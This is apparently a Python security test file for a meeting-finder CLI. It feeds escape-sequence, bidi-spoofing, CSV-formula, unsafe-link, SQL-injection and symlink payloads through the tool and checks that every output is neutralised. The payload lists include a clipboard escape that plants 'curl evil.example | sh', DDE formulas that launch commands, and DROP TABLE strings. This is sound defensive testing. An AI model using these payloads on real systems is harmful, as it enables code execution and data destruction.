"""Hostile input: escape sequences and spoofing characters in scraped text, formula cells, unsafe
links, huge fields, SQL injection in every option that reaches a query, and export paths.

The hostile feed is built from a real Meeting Guide row (tests/fixtures/meeting_guide/
tsml-ui-atlanta-aa.json, code4recovery/tsml-ui, MIT) with its text fields replaced; only the
replaced values are invented, to attack the parser, the catalog and every output.

With PEERFIND_RELIABILITY_OUT set, the tests add their counts to that JSON file (see
docs/make_reliability.py).
"""

from __future__ import annotations

import copy
import csv
import functools
import hashlib
import io
import json
import os
import re
import sqlite3
import unicodedata
from datetime import UTC, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from peerfind.catalog import db as catalog
from peerfind.clean import MAX_DESCRIPTION, MAX_FIELD, clean_text, csv_cell
from peerfind.cli.app import app
from peerfind.models import Page
from peerfind.platforms.meeting_guide import MeetingGuide
from peerfind.scraping import SourceConfig

FEED = Path(__file__).parents[1] / "fixtures" / "meeting_guide" / "tsml-ui-atlanta-aa.json"
FETCHED = datetime(2026, 11, 1, 12, tzinfo=UTC)
ENV = {"PEERFIND_NOW": "2026-11-24T18:30:00-05:00", "TZ": "America/New_York"}
cli = CliRunner()

# name -> (payload, what clean text keeps of it)
PAYLOADS: dict[str, tuple[str, str]] = {
    "csi-colour": ("\x1b[31;1mRED\x1b[0m", "RED"),
    "osc8-link": ("\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "click"),
    "osc8-link-bel": ("\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07", "click"),
    "osc52-clipboard": ("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07", ""),
    "osc0-title": ("\x1b]0;pwned\x07", ""),
    "cursor-moves": ("\x1b[2J\x1b[1;1H\x1b[5A\x1b[K\x1b7\x1b8", ""),
    "bell": ("\x07\x07ding", "ding"),
    "cr-overwrite": ("\rFAKE", "FAKE"),
    "backspace": ("abc\x08\x08\x08xyz", "abcxyz"),
    "bidi-override": ("\u202eevil\u202c", "evil"),
    "bidi-isolate": ("\u2067\u2066x\u2069\u2069", "x"),
    "bidi-marks": ("\u200e\u200f\u061cm", "m"),
    "c1-csi": ("\x9b31mX\x9b0m", "X"),
    "c1-osc8": ("\x9d8;;http://evil.example\x9cclick\x9d8;;\x9c", "click"),
    "dcs-sixel": ("\x1bPq#0;2;0;0;0#0~~\x1b\\", ""),
    "charset-reset": ("\x1b(0\x1bc\x1b#8", ""),
    "nul-and-del": ("a\x00b\x7fc", "abc"),
    "lone-surrogates": ("\udfffs\ud800", "s"),
    "zero-width-bom": ("\u200b\ufeffz", "z"),
    "unterminated-osc": ("\x1b]8;;https://evil.example/", ""),  # eats the rest of the line
}
# Every text field of a Meeting Guide row that reaches a Group.
TEXT_KEYS = (
    "name",
    "notes",
    "location",
    "location_notes",
    "group_notes",
    "formatted_address",
    "conference_phone",
    "entity_phone",
    "entity_email",
    "timezone",
)
URL_KEYS = ("url", "entity_website_url", "conference_url")
FORMULAS = (
    '=HYPERLINK("http://evil.example","x")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
)
BAD_LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "vbscript:msgbox(1)",
    "ftp://evil.example/x",
    "//evil.example/x",
)
BIDI = set("\u061c\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff")
BIG = 5_000_000


def record(key: str, value: object) -> None:
    """Add a count to the reliability results file when PEERFIND_RELIABILITY_OUT names one."""
    out = os.environ.get("PEERFIND_RELIABILITY_OUT")
    if not out:
        return
    path = Path(out)
    data = json.loads(path.read_text()) if path.exists() else {}
    data[key] = value
    path.write_text(json.dumps(data, indent=2, sort_keys=True))


def assert_clean(text: str, where: str) -> None:
    """Fail when text holds a control character, a lone surrogate or a bidi/invisible control."""
    for i, ch in enumerate(text):
        if ch in "\n\r\t":
            continue
        bad = unicodedata.category(ch) in ("Cc", "Cs") or ch in BIDI
        assert not bad, f"{where}: {ch!r} at {i}: {text[max(0, i - 40) : i + 40]!r}"


def base_row() -> dict[str, object]:
    """Return the first real meeting of the Atlanta feed."""
    return json.loads(FEED.read_text(encoding="utf-8"))[0]


def hostile_rows() -> list[dict[str, object]]:
    """Return the attack rows: one per payload (in every text field), formulas, links, sizes."""
    base = base_row()
    rows = []
    for label, (payload, _) in PAYLOADS.items():
        row = copy.deepcopy(base)
        row["slug"] = f"payload-{label}"
        for key in TEXT_KEYS:
            row[key] = f"{row.get(key) or ''} {payload} end"
        row["timezone"] = f"America/New_York{payload}"
        row["types"] = ["C", f"X{payload}"]
        for key in URL_KEYS:
            row[key] = f"https://atlantaaa.org/{payload}"
        rows.append(row)
    for n, formula in enumerate(FORMULAS):
        row = copy.deepcopy(base)
        row.update(
            slug=f"formula-{n}",
            name=formula,
            location=formula,
            notes=formula,
            formatted_address=f"{formula}, Acworth, GA 30102, USA",
        )
        rows.append(row)
    for n, link in enumerate(BAD_LINKS):
        row = copy.deepcopy(base)
        row["slug"] = f"link-{n}"
        for key in URL_KEYS:
            row[key] = link
        rows.append(row)
    big = copy.deepcopy(base)
    big.update(
        slug="huge",
        name="Huge " + "x" * BIG,
        notes="n" * BIG,
        location="v" * BIG,
        entity_website_url="https://example.org/" + "a" * BIG,
    )
    rows.append(big)
    for n, row in enumerate(rows):  # distinct times: search must not merge them as duplicates
        row["time"], row["end_time"] = f"{6 + n // 60:02d}:{n % 60:02d}", f"{7 + n // 60:02d}:00"
    return rows


@functools.cache
def hostile_groups() -> tuple:
    """Parse the hostile feed with the real Meeting Guide parser."""
    page = Page(
        url="https://atlantaaa.org/wp-admin/admin-ajax.php?action=meetings",
        text=json.dumps(hostile_rows()),
        fetched_at=FETCHED,
    )
    scraper = MeetingGuide(
        SourceConfig(
            name="hostile-aa",
            organization="Atlanta \x1b[5mAA",
            region="GA",
            country="US",
            program="aa",
        )
    )
    groups = scraper.parse_groups(page)
    assert not scraper.report.skipped
    return tuple(groups)


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A catalog holding the hostile listings."""
    db = tmp_path_factory.mktemp("hostile") / "catalog.db"
    conn = catalog.connect(db, create=True)
    result = catalog.refresh_source(conn, "hostile-aa", list(hostile_groups()))
    assert result.added == len(hostile_rows())
    conn.close()
    return db


def run(db: Path, *args: str):  # type: ignore[no-untyped-def]
    """Invoke peerfind on a catalog with a pinned clock."""
    return cli.invoke(app, ["--db", str(db), *args], env=ENV)


def by_key(key: str):  # type: ignore[no-untyped-def]
    """Return the parsed hostile group with this source key."""
    return next(g for g in hostile_groups() if g.source_key == key)


# --- what the parser and cleaner keep ---------------------------------------------------


@pytest.mark.parametrize("label", list(PAYLOADS))
def test_every_text_field_is_cleaned(label: str) -> None:
    kept = PAYLOADS[label][1]
    g = by_key(f"payload-{label}")
    tail = "" if label == "unterminated-osc" else " end"
    assert g.name == clean_text(f"Early Sunday Morning {kept}{tail}")
    assert g.venue == clean_text(f"H.O.W. Place {kept}{tail}")
    assert g.schedule.timezone in (None, "America/New_York")  # never a zone with junk in it
    assert g.source_types[0] == "C" and g.source_types[1].startswith("X")
    assert g.organization == "Atlanta AA"
    for value in (g.to_dict() | {"schedule": g.schedule.to_dict()}).values():
        assert_clean(json.dumps(value, ensure_ascii=False), f"{label}: stored value")


def test_unsafe_links_are_dropped_and_safe_ones_kept() -> None:
    for n, link in enumerate(BAD_LINKS):
        g = by_key(f"link-{n}")
        assert (g.source_url, g.website, g.join_url) == ("", "", ""), link
    g = by_key("payload-csi-colour")
    assert g.website == "https://atlantaaa.org/RED"
    real = MeetingGuide(SourceConfig(name="a")).parse_groups(
        Page(url="https://x.example/f.json", text=FEED.read_text(), fetched_at=FETCHED)
    )[0]
    assert real.source_url == "https://atlantaaa.org/meetings/early-sunday-morning/"
    record("hostile_links", len(BAD_LINKS))


def test_huge_fields_are_cut_to_the_cap() -> None:
    g = by_key("huge")
    assert len(g.name) == MAX_FIELD and g.name.startswith("Huge xxx") and g.name.endswith("…")
    assert len(g.venue) == MAX_FIELD
    assert len(g.description) == MAX_DESCRIPTION and g.description.endswith("…")
    assert g.website == ""  # a 5 MB link is no link


def test_csv_cell_rules() -> None:
    cases = {
        "=1+1": "'=1+1",
        "+1 404": "'+1 404",
        "-2+3": "'-2+3",
        "@SUM(A1)": "'@SUM(A1)",
        "\t=1": "'\t=1",
        "\r=1": "'\n=1",
        " =1": "' =1",
        "\uff1d1": "'\uff1d1",
        "-71.5": "-71.5",
        "42": "42",
        "Grief \x1b[31mgroup": "Grief group",
        "line\r\nbreak": "line\nbreak",
        "a\u202eb": "ab",
        "": "",
        None: "",
    }
    for given, want in cases.items():
        assert csv_cell(given) == want, given
    record("csv_cell_cases", len(cases))


# --- nothing reaches a terminal or a spreadsheet ------------------------------------------


def test_outputs_carry_no_escapes(hostile_db: Path, tmp_path: Path) -> None:
    checked = 0
    near = ["--near", "30102", "--radius", "10", "--limit", "1000"]
    outputs = {}
    for fmt in ("table", "json", "ndjson", "csv"):
        result = run(hostile_db, "search", *near, "-o", fmt)
        assert result.exit_code == 0, result.output
        outputs[f"search -o {fmt}"] = result.output
    rows = json.loads(outputs["search -o json"])
    assert {r["source_key"] for r in rows} == {g.source_key for g in hostile_groups()}
    for row in rows:
        for key, value in row.items():
            assert_clean(json.dumps(value, ensure_ascii=False), f"json {key}")
            if key in ("source_url", "website", "join_url") and value:
                assert value.startswith(("http://", "https://", "tel:", "mailto:")), value
    for ident in (r["id"] for r in rows):
        for extra in ((), ("-o", "json"), ("--ics",)):
            result = run(hostile_db, "show", ident, *extra)
            assert result.exit_code == 0, result.output
            outputs[f"show {ident} {extra}"] = result.output
    for name in ("x.csv", "x.json", "x.ndjson", "x.ics"):
        result = run(hostile_db, "export", str(tmp_path / name), *near[:4])
        assert result.exit_code == 0, result.output
        outputs[f"export {name}"] = (tmp_path / name).read_text(encoding="utf-8") + result.output
    result = run(hostile_db, "export", str(tmp_path / "hsds"), "--hsds", *near[:4])
    assert result.exit_code == 0, result.output
    for part in sorted((tmp_path / "hsds").iterdir()):
        outputs[f"hsds {part.name}"] = part.read_text(encoding="utf-8")
    outputs["sources"] = run(hostile_db, "sources").output
    outputs["tags"] = run(hostile_db, "tags").output
    for where, text in outputs.items():
        assert_clean(text, where)
        for raw in ("\x1b", "\x07", "\x9b", "\x9d", "\u202e"):
            assert raw not in text, where
        checked += 1
    assert "Early Sunday Morning RED end" in outputs["search -o table"]
    record("hostile_outputs", checked)
    record("hostile_field_payloads", len(PAYLOADS) * (len(TEXT_KEYS) + len(URL_KEYS) + 1))


def test_exported_csv_neutralizes_formulas(hostile_db: Path, tmp_path: Path) -> None:
    target = tmp_path / "groups.csv"
    result = run(hostile_db, "export", str(target), "--near", "30102", "--radius", "10")
    assert result.exit_code == 0, result.output
    table = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"), newline="")))
    head, body = table[0], table[1:]
    assert len(body) == len(hostile_rows())
    for line in body:
        for cell in line:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d"):
                assert re.fullmatch(r"-?\d+(\.\d+)?", cell), cell
    names = {line[head.index("name")] for line in body}
    for formula in FORMULAS:
        assert "'" + clean_text(formula) in names or "'" + formula.strip() in names
    assert '\'=HYPERLINK("http://evil.example","x")' in names


# --- SQL injection --------------------------------------------------------------------------

INJECTIONS = (
    "' OR 1=1 --",
    "'; DROP TABLE groups; --",
    '"; DELETE FROM groups; --',
    "%' OR '%'='",
    "|veterans|%",
    "') UNION SELECT sql FROM sqlite_master --",
    "x' AND 0=(SELECT count(*) FROM runs) --",
    "NEAR(a b)",
    "name:* OR *",
    '"unbalanced',
    "a) OR (b",
    "%",
    "_",
    "*",
    "\\",
    "1; ATTACH DATABASE '/tmp/x' AS x",
    "ed\x00x",
    "ｓｅｌｅｃｔ",
    "'||(SELECT 1)||'",
)


def _checksum(db: Path) -> str:
    """Return a digest of every catalog table's rows (and the schema)."""
    conn = sqlite3.connect(db)
    digest = hashlib.sha256()
    for table in ("sqlite_master", "groups", "runs", "meta"):
        for row in conn.execute(f"SELECT * FROM {table} ORDER BY 1, 2"):
            digest.update(repr(row).encode())
    conn.close()
    return digest.hexdigest()


def test_sql_injection_in_every_option(hostile_db: Path, tmp_path: Path) -> None:
    before = _checksum(hostile_db)
    options = (
        ("search",),
        ("search", "--near", "30102", "-p"),
        ("search", "--near", "30102", "-t"),
        ("search", "--near", "30102", "--format"),
        ("search", "--near", "30102", "--day"),
        ("search", "--near", "30102", "--language"),
        ("search", "--near"),
        ("search", "--near", "30102", "--accessibility"),
        ("search", "--near", "30102", "--time"),
        ("show",),
        ("export", str(tmp_path / "inj.csv"), "--force", "--text"),
    )
    tried = 0
    for option in options:
        for payload in INJECTIONS:
            result = run(hostile_db, *option, payload)
            assert result.exit_code in (0, 2), (option, payload, result.output)
            assert "Traceback" not in result.output and "unexpected" not in result.output
            if result.exit_code == 2:
                assert result.stderr.startswith("peerfind: ") or "Usage:" in result.stderr
            tried += 1
    assert _checksum(hostile_db) == before
    conn = sqlite3.connect(hostile_db)
    conn.execute("INSERT INTO groups_fts (groups_fts, rank) VALUES ('integrity-check', 1)")
    conn.close()
    text = run(hostile_db, "search", "' OR 1=1 --", "-o", "json")
    assert text.exit_code == 0 and text.stdout.strip() == "[]"  # words, not SQL
    record("sql_injection_inputs", tried)


# --- export paths -----------------------------------------------------------------------


def _tree(root: Path) -> dict[str, bytes | str]:
    """Return every path under root with its content (links as their target)."""
    out: dict[str, bytes | str] = {}
    for path in sorted(root.rglob("*")):
        key = str(path.relative_to(root))
        if path.is_symlink():
            out[key] = "-> " + os.readlink(path)
        elif path.is_file():
            out[key] = path.read_bytes()
    return out


def test_export_writes_only_where_told(
    hostile_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work = tmp_path / "work" / "sub"
    work.mkdir(parents=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    victim = outside / "victim.txt"
    victim.write_text("precious")
    monkeypatch.chdir(work)
    near = ("--near", "30102", "--radius", "10")
    before = _tree(tmp_path)
    ok = run(hostile_db, "export", "../up.csv", *near)
    assert ok.exit_code == 0, ok.output
    after = _tree(tmp_path)
    assert set(after) - set(before) == {"work/up.csv"}  # no temporary file left behind
    assert after["work/up.csv"].startswith(b"id,name,")
    refused = run(hostile_db, "export", "../up.csv", *near)
    assert refused.exit_code == 2 and "already exists; use --force" in refused.stderr
    assert _tree(tmp_path) == after
    forced = run(hostile_db, "export", "../up.csv", "--limit", "1", "--force", *near)
    assert forced.exit_code == 0 and (work.parent / "up.csv").read_bytes() != after["work/up.csv"]
    (work / "link.csv").symlink_to(victim)
    (work / "dangling.csv").symlink_to(outside / "new.csv")
    snapshot = _tree(tmp_path)
    for name in ("link.csv", "dangling.csv"):
        for extra in ((), ("--force",)):
            result = run(hostile_db, "export", name, *near, *extra)
            assert result.exit_code == 2, result.output
            assert "is a symbolic link; peerfind will not write through it" in result.stderr
    missing = run(hostile_db, "export", "nowhere/x.csv", *near)
    assert missing.exit_code == 2 and "does not exist" in missing.stderr
    assert _tree(tmp_path) == snapshot
    assert victim.read_text() == "precious" and not (outside / "new.csv").exists()


def test_hsds_export_refuses_planted_links(hostile_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "package"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (out / "services.csv").symlink_to(victim)
    snapshot = _tree(tmp_path)
    said = {
        (): "is not empty; use --force to write into it.",
        ("--force",): "services.csv is a symbolic link; peerfind will not write through it.",
    }
    for extra, message in said.items():
        result = run(hostile_db, "export", str(out), "--hsds", "--near", "30102", *extra)
        assert result.exit_code == 2 and message in result.stderr, result.output
    assert _tree(tmp_path) == snapshot and victim.read_text() == "precious"
